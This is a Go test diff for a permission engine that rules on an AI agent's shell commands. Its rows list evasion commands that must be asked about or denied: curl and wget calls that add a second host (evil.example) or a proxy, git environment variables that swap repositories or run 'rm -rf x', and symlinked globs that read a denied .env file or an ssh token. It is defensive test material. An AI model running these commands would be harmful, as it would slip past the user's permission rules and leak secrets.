@@ -1,6 +1,7 @@
 package engine
 
 import (
+	"context"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -118,6 +119,12 @@ var red18leftNetClasses = map[string][]bashModeRow{
 		{red18leftCurlAllow, `wget https://docs.example.com -F -B https://evil.example/ -i list`, "default", "ask"},
 		{red18leftCurlAllow, `wget https://docs.example.com --config=cfg`, "default", "ask"},
 		{red18leftCurlAllow, `wget https://docs.example.com -e use_proxy=on -e https_proxy=evil.example:8080`, "default", "ask"},
+		{red18leftCurlAllow, `curl https://docs.example.com --url https://evil.example`, "default", "ask"},
+		{red18leftCurlAllow, `curl https://docs.example.com --expand-url https://evil.example`, "default", "ask"},
+		{red18leftCurlAllow, `curl https://docs.example.com -- https://evil.example`, "default", "ask"},
+		{red18leftCurlAllow, `curl https://docs.example.com -sSxevil.example:1`, "default", "ask"},
+		{red18leftCurlAllow, `wget https://docs.example.com --tries 3 https://evil.example`, "default", "ask"},
+		{red18leftCurlAllow, `wget https://docs.example.com -ilist`, "default", "ask"},
 		{red18leftCurlAllow, `curl https://docs.example.com -x evil.example:8080`, "dontAsk", "deny"},
 		// Neighbours: the named site, again or with options that only
 		// tune the fetch, stays approved.
@@ -127,6 +134,10 @@ var red18leftNetClasses = map[string][]bashModeRow{
 		{red18leftCurlAllow, `curl https://docs.example.com -v -m 5 -q`, "default", "allow"},
 		{red18leftCurlAllow, `curl https://docs.example.com -o /dev/null -w '%{http_code}'`, "default", "allow"},
 		{red18leftCurlAllow, `wget https://docs.example.com -q -O -`, "default", "allow"},
+		{red18leftCurlAllow, `wget https://docs.example.com -O - -U agent --wait 3`, "default", "allow"},
+		{red18leftCurlAllow, `curl https://docs.example.com --url-query a=b --etag-compare src/a.go`, "default", "allow"},
+		{red18leftCurlAllow, `curl https://docs.example.com -H 'X: y' -A agent -e https://ref.example`, "default", "allow"},
+		{red18leftCurlAllow, `curl https://docs.example.com --noproxy '*' -m 5`, "default", "allow"},
 		{red18leftCurlAllow, `wget https://docs.example.com -e robots=off -O -`, "default", "allow"},
 		{`{"permissions":{"allow":["Bash(curl:*)"]}}`, `curl -fsSL https://docs.example.com/a https://docs.example.com/b`, "default", "allow"},
 		// An exact rule names its destinations itself.
@@ -250,5 +261,113 @@ func TestRed18leftRealMeta(t *testing.T) {
 	}
 	if out := run(`touch -d 2000-01-01 old && touch -d 2100-01-01 new && find . -newer .env -name '???'`); out != "./new" {
 		t.Errorf("find -newer .env told nothing: %q", out)
+	}
+}
+
+// red18leftGitAllow allows git outright; red18leftGitRO leaves git to
+// read-only detection. Both deny rm and the secrets.
+const (
+	red18leftGitAllow = `{"permissions":{"allow":["Bash(git:*)","Bash(export:*)"],"deny":["Read(.env)","Read(secrets/**)","Bash(rm:*)"]}}`
+	red18leftGitRO    = `{"permissions":{"deny":["Read(.env)","Read(secrets/**)","Bash(rm:*)"]}}`
+)
+
+// red18leftGitClasses were closed by earlier passes; the rows keep them
+// closed, in every spelling this pass tried.
+var red18leftGitClasses = map[string][]bashModeRow{
+	"r18l-1 git's repository, config or programs set earlier in the command": {
+		{red18leftGitRO, `export GIT_DIR=<tmp>/other/.git; git log -p`, "default", "ask"},
+		{red18leftGitRO, `export GIT_DIR=<tmp>/other/.git; git log --oneline`, "default", "ask"},
+		{red18leftGitRO, `GIT_DIR=<tmp>/other/.git; export GIT_DIR; git show`, "default", "ask"},
+		{red18leftGitRO, `set -a; GIT_DIR=<tmp>/other/.git; git status`, "default", "ask"},
+		{red18leftGitRO, `declare -x GIT_WORK_TREE=<tmp>/other; git status`, "default", "ask"},
+		{red18leftGitRO, `read GIT_DIR <<< <tmp>/other/.git; export GIT_DIR; git status`, "default", "ask"},
+		{red18leftGitRO, `for GIT_DIR in <tmp>/other/.git; do export GIT_DIR; git status; done`, "default", "ask"},
+		{red18leftGitRO, `git --git-dir=<tmp>/other/.git log --oneline`, "default", "ask"},
+		{red18leftGitRO, `git --work-tree=<tmp>/other status`, "default", "ask"},
+		{red18leftGitRO, `git -C <tmp>/other log --oneline`, "default", "ask"},
+		{red18leftGitAllow, `export GIT_DIR=<tmp>/other/.git; git log --oneline`, "default", "ask"},
+		{red18leftGitAllow, `export GIT_INDEX_FILE=<tmp>/idx; git status`, "default", "ask"},
+		{red18leftGitAllow, `export GIT_CONFIG_GLOBAL=<tmp>/cfg; git log --oneline`, "default", "ask"},
+		{red18leftGitAllow, `export GIT_EXEC_PATH=<tmp>; git status`, "default", "ask"},
+		{red18leftGitAllow, `export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x; git log`, "default", "ask"},
+		{red18leftGitAllow, `export GIT_SSH_COMMAND='rm -rf x'; git fetch`, "default", "deny"},
+		{red18leftGitAllow, `export GIT_PAGER='rm -rf x'; git log`, "default", "deny"},
+		{red18leftGitAllow, `export GIT_EXTERNAL_DIFF='rm -rf x'; git diff -- src`, "default", "deny"},
+		{red18leftGitAllow, `git --git-dir <tmp>/other/.git log`, "default", "ask"},
+		{red18leftGitAllow, `git --exec-path=<tmp> status`, "default", "ask"},
+		{red18leftGitAllow, `git --config-env=core.pager=X log`, "default", "ask"},
+		// Neighbours.
+		{red18leftGitRO, `git log --oneline`, "default", "allow"},
+		{red18leftGitRO, `git status`, "default", "allow"},
+		{red18leftGitAllow, `git log --oneline -5`, "default", "allow"},
+	},
+}
+
+func TestRed18leftGitRows(t *testing.T) {
+	files := map[string]string{
+		"<cwd>/.git/HEAD":         "ref: refs/heads/main\n",
+		"<cwd>/.git/objects/keep": "",
+		"<cwd>/.git/refs/keep":    "",
+		"<tmp>/other/.git/HEAD":   "ref: refs/heads/main\n",
+	}
+	for k, v := range red18leftFiles {
+		files[k] = v
+	}
+	checkBashRows(t, files, red18leftGitClasses)
+}
+
+// red18leftLinks are symbolic links at varying depths, to the denied
+// .env and into the denied ssh directory, beside plain sources.
+var red18leftLinks = map[string]string{
+	"<cwd>/d1/x":                  "../.env",
+	"<cwd>/src/a/x":               "../../.env",
+	"<cwd>/src/b/cfg":             "../../.env",
+	"<cwd>/deep/a/b/c/d/e/f/link": "<home>/.ssh/ghp_TOKENred18left",
+	"<cwd>/src/sshdir":            "<home>/.ssh",
+	"<cwd>/chain/x":               "../src/l1",
+	"<cwd>/src/l1":                "l2",
+	"<cwd>/src/l2":                "../.env",
+}
+
+var red18leftLinkRows = []bashModeRow{
+	{red18leftMeta, `cat */x`, "default", "deny"},
+	{red18leftMeta, `cat src/*/x`, "default", "deny"},
+	{red18leftMeta, `cat */*/cfg`, "default", "deny"},
+	{red18leftMeta, `shopt -s globstar; cat src/**/x`, "default", "deny"},
+	{red18leftMeta, `cat deep/*/*/*/*/*/*/link`, "default", "deny"},
+	{red18leftMeta, `shopt -s globstar; cat deep/**/link`, "default", "deny"},
+	{red18leftMeta, `cat src/s*/*`, "default", "deny"},
+	{red18leftMeta, `cat */*/ghp_*`, "default", "deny"},
+	{red18leftMeta, `cat chain/*`, "default", "deny"},
+	{red18leftMeta, `shopt -s extglob; cat src/@(a|b)/x`, "default", "deny"},
+	{red18leftMeta, `head -q src/[ab]/*`, "default", "deny"},
+	// Neighbours.
+	{red18leftMeta, `cat src/*.go`, "default", "allow"},
+	{red18leftMeta, `cat src/a.go`, "default", "allow"},
+	{red18leftMeta, `ls src`, "default", "allow"},
+}
+
+// TestRed18leftLinkRows: a glob operand whose expansion holds a link to a
+// denied file, at any depth, is that read (closed by earlier passes).
+func TestRed18leftLinkRows(t *testing.T) {
+	root, dirs, sub := sweepLayout(t, red18leftFiles)
+	for name, target := range red18leftLinks {
+		p := sub(name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Symlink(sub(target), p); err != nil {
+			t.Fatal(err)
+		}
+	}
+	engine := sweepEngines(root, dirs, sub)
+	for _, r := range red18leftLinkRows {
+		d, err := engine(t, r.settings).Decide(context.Background(), Call{Tool: "Bash", Mode: r.mode, Input: map[string]any{"command": r.cmd}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := d.Decision.String(); got != r.want {
+			t.Errorf("%q: got %s (%s: %s), want %s", r.cmd, got, d.Stage, d.Reason, r.want)
+		}
 	}
 }
